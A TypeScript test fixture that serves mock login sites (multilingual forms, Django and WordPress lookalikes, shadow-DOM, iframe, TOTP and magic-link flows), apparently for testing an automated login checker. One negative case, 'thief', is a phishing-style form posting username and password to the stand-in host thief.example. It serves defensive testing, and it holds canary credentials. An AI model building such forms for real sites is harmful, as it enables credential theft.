import type { IncomingMessage, ServerResponse } from 'node:http';
import { totp } from '../../src/verify/login/totp.ts';
import { htmlPage, type PageHandler } from './serve-pages.ts';

export const USER = 'ada@shop.example';
export const PASSWORD = 'canary-Pa55word!';
export const TOTP_KEY = 'JBSWY3DPEHPK3PXP';

/** What a request to one of the sites says. */
export interface Asked {
  readonly method: string;
  /** Below the folder of the site, such as `/login`. */
  readonly path: string;
  readonly form: URLSearchParams;
  readonly cookies: string;
}

export type Answer =
  | string
  | { readonly to: string; readonly cookie?: string }
  | { readonly status: number; readonly body: string };
/** A product in a few lines: answers one request. */
export type Product = (asked: Asked) => Answer;

/** Serves each product in a folder of its name. */
export function serveProducts(products: Readonly<Record<string, Product>>): PageHandler {
  return (request, response) => {
    readBody(request, (body) => {
      const { pathname } = new URL(request.url ?? '/', 'http://x');
      const [, name = '', ...rest] = pathname.split('/');
      const product = products[name];
      if (product === undefined)
        return void response.writeHead(pathname === '/favicon.ico' ? 204 : 404).end();
      const asked: Asked = {
        method: request.method ?? 'GET',
        path: `/${rest.join('/')}`,
        form: toForm(body),
        cookies: request.headers.cookie ?? '',
      };
      send(response, product(asked), name);
    });
  };
}

function readBody(request: IncomingMessage, done: (body: string) => void): void {
  let body = '';
  request.on('data', (chunk) => (body += String(chunk)));
  request.on('end', () => done(body));
}

function toForm(body: string): URLSearchParams {
  if (!body.startsWith('{')) return new URLSearchParams(body);
  return new URLSearchParams(Object.entries(JSON.parse(body)).map(([key, value]) => [key, String(value)]));
}

function send(response: ServerResponse, answer: Answer, name: string): void {
  if (typeof answer === 'string') {
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(htmlPage(answer));
  } else if ('to' in answer) {
    const location = answer.to.startsWith('http') ? answer.to : `/${name}${answer.to}`;
    response
      .writeHead(302, {
        location,
        ...(answer.cookie === undefined ? {} : { 'set-cookie': `${answer.cookie}; Path=/${name}` }),
      })
      .end();
  } else
    response
      .writeHead(answer.status, { 'content-type': 'text/html; charset=utf-8' })
      .end(htmlPage(answer.body));
}

const isIn = ({ cookies }: Asked): boolean => cookies.includes('session=in');
export const isRight = ({ form }: Asked): boolean =>
  form.get('user') === USER && form.get('pass') === PASSWORD;
const IN = 'session=in';
const HOME = '<h1>Dashboard</h1><p>Your orders</p>';

/** A product with a login page at `path` that takes `user` and `pass`. */
function guarded(page: string, { path = '/login', home = HOME, start = '' } = {}): Product {
  return (asked) => {
    if (asked.path === path && asked.method === 'POST') {
      return isRight(asked)
        ? { to: '/', cookie: IN }
        : `${page}<p role="alert">Falsches Passwort oder wrong password</p>`;
    }
    if (asked.path === path) return isIn(asked) ? { to: '/' } : page;
    if (asked.path === '/') return isIn(asked) ? home : start === '' ? { to: path } : start;
    if (asked.path === '/signup' || asked.path === '/social') return '<h1>Wrong door</h1>';
    return { status: 404, body: 'not here' };
  };
}

/** Sends what the page's own script has gathered, as single-page products do. */
const SEND = `const enter = async (user, pass) => { const answer = await fetch('session', { method: 'POST', body: JSON.stringify({ user, pass }) });
  if (answer.ok) { localStorage.token = 'in'; document.body.innerHTML = '<h1>Inbox</h1><button>Log out</button>'; } else out.textContent = 'Invalid credentials'; };`;

/** A product whose page does everything with scripts. */
function scripted(page: string): Product {
  return (asked) => {
    if (asked.path === '/session') return isRight(asked) ? 'ok' : { status: 401, body: 'no' };
    return asked.path === '/' || asked.path === '/login'
      ? `${page}<p id="out"></p><script>${SEND}</script>`
      : { status: 404, body: 'not here' };
  };
}

const SIGN_UP = `<form method="post" action="signup"><h2>New here?</h2><input name="first" placeholder="First name"><input type="email" name="email" placeholder="E-mail">
  <input type="password" name="new" placeholder="Choose a password"><button>Create account</button></form>`;
const SOCIAL = `<a href="social" role="button">Continue with Google</a><button type="button" onclick="location.href='social'">Sign in with GitHub</button>`;

const code = (asked: Asked, sent: string): boolean =>
  [0, -30_000].some((off) => totp(TOTP_KEY, new Date(Date.now() + off)) === sent) &&
  asked.cookies.includes('half=1');

/** Products that let the account in, each in its own way. The names are their folders. */
export const OPEN_PRODUCTS: Readonly<Record<string, Product>> = {
  german:
    guarded(`<h1>Anmelden</h1><form method="post"><label>Benutzername <input name="user"></label><label>Kennwort <input name="pass" type="password"></label>
    <label><input type="checkbox" name="stay"> Angemeldet bleiben</label><input type="submit" value="Anmelden"> <a href="signup">Passwort vergessen?</a></form>`),
  // Labels beside the fields, no names until the script reads the form, words in a table.
  french:
    scripted(`<h1>Connexion</h1><table><tr><td>Identifiant</td><td><input id="a"></td></tr><tr><td>Mot de passe</td><td><input id="b" type="password"></td></tr></table>
    <div onclick="enter(a.value, b.value)" style="cursor:pointer">Se connecter</div>`),
  japanese:
    scripted(`<h1>ログイン</h1><div><span>メールアドレス</span><input id="a"></div><div><span>パスワード</span><input id="b" type="password"></div>
    <div tabindex="0" onclick="enter(a.value, b.value)">ログイン</div><div tabindex="0" onclick="location.href='signup'">新規登録</div>`),
  polish: guarded(
    `<h1>Logowanie</h1><form method="post"><input name="user" placeholder="Adres e-mail"><input name="pass" type="password" placeholder="Hasło"><button>Zaloguj się</button></form>`,
  ),
  // One name, a page load, one password.
  identifier: (asked) => {
    if (asked.path === '/login')
      return asked.method === 'POST'
        ? { to: '/challenge', cookie: `who=${encodeURIComponent(asked.form.get('user') ?? '')}` }
        : '<h1>Sign in to Acme</h1><form method="post"><input name="user" autocomplete="username" type="email"><button>Continue</button></form>';
    if (asked.path === '/challenge') {
      if (asked.method === 'POST')
        return asked.form.get('pass') === PASSWORD && asked.cookies.includes(encodeURIComponent(USER))
          ? { to: '/', cookie: IN }
          : { to: '/login' };
      return `<h1>Welcome</h1><p>${USER} <a href="login">Not you?</a></p><form method="post"><input type="password" name="pass" autocomplete="current-password"><button>Continue</button></form>`;
    }
    return isIn(asked) ? HOME : { to: '/login' };
  },
  // The password is there from the start, for password managers, and not to be seen.
  hidden:
    scripted(`<h1>Iniciar sesión</h1><input id="a" type="email" aria-label="Correo"><div id="p" style="visibility:hidden"><input id="b" type="password" aria-label="Contraseña"></div>
    <button id="next" onclick="p.style.visibility = 'visible'; next.remove(); go.hidden = false">Siguiente</button><button id="go" hidden onclick="enter(a.value, b.value)">Entrar</button>`),
  // The configured path is wrong; the start page leads to the right one.
  django: guarded(
    `<title>Log in | Django site admin</title><h1>Django administration</h1><form method="post" id="login-form"><label for="id_username">Username:</label><input name="user" id="id_username" autofocus>
    <label for="id_password">Password:</label><input type="password" name="pass" id="id_password"><input type="submit" value="Log in"></form>`,
    { path: '/admin/login/' },
  ),
  wordpress: guarded(
    `<form name="loginform" id="loginform" method="post"><p><label for="user_login">Username or Email Address</label><input type="text" name="user" id="user_login" autocapitalize="off"></p>
    <label for="user_pass">Password</label><div><input type="password" name="pass" id="user_pass"><button type="button" aria-label="Show password" onclick="user_pass.type='text'">👁</button></div>
    <p><input name="rememberme" type="checkbox" id="rememberme" value="forever"><label for="rememberme">Remember Me</label></p><input type="submit" name="wp-submit" value="Log In"></form><a href="signup">Lost your password?</a>`,
    { path: '/wp-login.php' },
  ),
  // A button that wakes on a key, and a field whose value the page keeps itself.
  floating:
    scripted(`<form onsubmit="event.preventDefault(); enter(kept.user, kept.pass)"><div><label for="u">Email Address *</label><input id="u" type="text" autocomplete="email"></div>
    <div><label for="w">Password *</label><input id="w" type="password"></div><button id="s" disabled>Sign In</button></form>
    <script>const kept = {}; u.addEventListener('input', () => { kept.user = u.value; }); w.addEventListener('input', () => { kept.pass = w.value; }); w.addEventListener('keyup', () => { s.disabled = !(kept.user && kept.pass); });</script>`),
  components: scripted(`<x-login></x-login><script>
    customElements.define('x-field', class extends HTMLElement { connectedCallback() { this.attachShadow({ mode: 'open' }).innerHTML = '<input type="' + this.getAttribute('type') + '">'; } get value() { return this.shadowRoot.firstChild.value; } });
    customElements.define('x-button', class extends HTMLElement { connectedCallback() { this.attachShadow({ mode: 'open' }).innerHTML = '<span><slot></slot></span>'; this.style.cursor = 'pointer'; } });
    customElements.define('x-login', class extends HTMLElement { connectedCallback() { const root = this.attachShadow({ mode: 'open' });
      root.innerHTML = '<h1>Inloggen</h1><x-field type="text" label="Gebruikersnaam"></x-field><x-field type="password" label="Wachtwoord"></x-field><x-button>Inloggen</x-button>';
      const [user, pass] = root.querySelectorAll('x-field'); root.querySelector('x-button').onclick = () => enter(user.value, pass.value); } });</script>`),
  framed: (asked) =>
    asked.path === '/login' && !isIn(asked)
      ? '<h1>Portal</h1><iframe src="inner" width="400" height="300" style="margin:40px"></iframe>'
      : guarded(
          '<form method="post" target="_top"><label>Login <input name="user"></label><label>Senha <input name="pass" type="password"></label><button>Entrar</button></form>',
          { path: '/inner' },
        )(asked),
  // In a dialog behind a menu of the start page, beside a search, a newsletter and a form for new accounts.
  menu: scripted(`<header><form action="signup"><input type="search" name="q" placeholder="Search"></form><button aria-label="Menu" onclick="nav.hidden = false">☰</button>
    <nav id="nav" hidden><a href="signup">Sign up</a> <a href="#" onclick="box.showModal()">Sign in</a></nav></header>
    <dialog id="box"><h2>Sign in</h2><form onsubmit="event.preventDefault(); enter(this.user.value, this.pass.value)"><input name="user" placeholder="E-mail"><input name="pass" type="password" placeholder="Password"><button>Sign in</button></form></dialog>
    <footer><form action="signup"><input type="email" placeholder="Your e-mail"><button>Subscribe</button></form></footer>`),
  beside: guarded(
    `${SOCIAL}${SIGN_UP}<form method="post"><h2>Sign in</h2>${SOCIAL}<input name="user" placeholder="Email"><input type="password" name="pass" placeholder="Password"><button>Sign in</button></form>`,
  ),
  cookies:
    guarded(`<form method="post"><input name="user" autocomplete="username" placeholder="Nome utente"><input type="password" name="pass" placeholder="Password"><button>Accedi</button></form>
    <div id="banner" style="position:fixed;inset:0;background:#fff">We use cookies. <button onclick="location.href='signup'">Settings</button> <button onclick="banner.remove()">Only necessary cookies</button></div>`),
  // Ways in to choose among, then a question before the product.
  choices: (asked) => {
    if (asked.path === '/login')
      return isRight(asked)
        ? { to: '/stay', cookie: IN }
        : `<h1>Welcome back</h1>${SOCIAL}<button onclick="this.remove(); f.hidden = false">Continue with email</button><form id="f" hidden method="post"><input name="user" type="email"><input name="pass" type="password"><button>Continue</button></form>`;
    if (asked.path === '/stay')
      return isIn(asked)
        ? '<h1>Stay signed in?</h1><form action="."><button>Yes</button></form><form action="."><button>No</button></form>'
        : { to: '/login' };
    return isIn(asked) ? HOME : { to: '/login' };
  },
  boxes: (asked) => {
    if (asked.path === '/login')
      return isRight(asked)
        ? { to: '/code', cookie: 'half=1' }
        : '<form method="post"><input name="user"><input name="pass" type="password"><button>Log in</button></form>';
    if (asked.path === '/code') {
      if (asked.method === 'POST')
        return code(asked, asked.form.get('all') ?? '') ? { to: '/', cookie: IN } : { to: '/code' };
      return `<h1>Two-factor authentication</h1><form id="f" method="post"><input type="hidden" name="all">${'<input maxlength="1" inputmode="numeric">'.repeat(6)}</form>
        <script>const boxes = [...document.querySelectorAll('[maxlength]')]; for (const [at, box] of boxes.entries()) box.addEventListener('input', () => { boxes[at + 1]?.focus(); if (boxes.every(({ value }) => value)) { f.all.value = boxes.map(({ value }) => value).join(''); f.submit(); } });</script>`;
    }
    return isIn(asked) ? HOME : { to: '/login' };
  },
};

/** A product that sends a message: a link, or a code. `sent` is told the address and the words. */
export function mailingProduct(
  how: 'link' | 'code',
  sent: (to: string, text: string, link: string) => void,
): Product {
  return (asked) => {
    const name = how === 'link' ? 'magic' : 'mailed';
    if (asked.path === '/login' && asked.method === 'POST') {
      const link = `http://site/${name}/enter?token=abc`;
      sent(
        asked.form.get('user') ?? '',
        how === 'link' ? `Log in here: ${link}` : 'Your verification code is 482 913. It is good until 2031.',
        how === 'link' ? link : '',
      );
      return how === 'link'
        ? '<h1>Check your inbox</h1><p>We sent a link to your e-mail address.</p>'
        : { to: '/code' };
    }
    if (asked.path === '/code') {
      if (asked.method !== 'POST')
        return '<h1>Enter the code</h1><form method="post"><label>Code <input name="code" autocomplete="one-time-code"></label><button>Verify</button></form>';
      return asked.form.get('code') === '482913' ? { to: '/', cookie: IN } : { to: '/code' };
    }
    if (asked.path === '/enter') return { to: '/', cookie: IN };
    return isIn(asked)
      ? HOME
      : '<h1>Log in</h1><form method="post" action="login"><input type="email" name="user" placeholder="E-mail"><button>Send me a magic link</button></form>';
  };
}

const FORM =
  '<form method="post"><input name="user"><input name="pass" type="password"><button>Log in</button></form>';

/** Products that let nobody in, each in its own way. */
export const CLOSED_PRODUCTS: Readonly<Record<string, Product>> = {
  wrong: (asked) => (asked.method === 'POST' ? `${FORM}<p>Incorrect password</p>` : FORM),
  locked: (asked) =>
    asked.method === 'POST' ? `${FORM}<p>Your account has been locked. Too many failed attempts.</p>` : FORM,
  robots: (asked) =>
    `<form method="post"><input name="user"><input name="pass" type="password"><div class="g-recaptcha" data-sitekey="k" style="width:300px;height:70px">I am not a robot</div><button>Log in</button></form>${asked.method === 'POST' ? '<p>Please try again</p>' : ''}`,
  // A cookie, another page without a form, and nobody is in.
  elsewhere: (asked) =>
    asked.path === '/error'
      ? '<h1>Invalid credentials</h1><a href="login">Back to login</a>'
      : asked.method === 'POST'
        ? { to: '/error', cookie: 'visit=2' }
        : FORM,
  registration: () => SIGN_UP,
  // What is typed here is sent to somebody else.
  thief: () =>
    '<form method="post" action="https://thief.example/take"><input name="user"><input name="pass" type="password"><input name="getAttribute" type="hidden"><button>Log in</button></form>',
  question: (asked) =>
    asked.method === 'POST'
      ? '<form method="post"><label>Verification code <input name="code"></label><button>Verify</button></form>'
      : FORM,
};
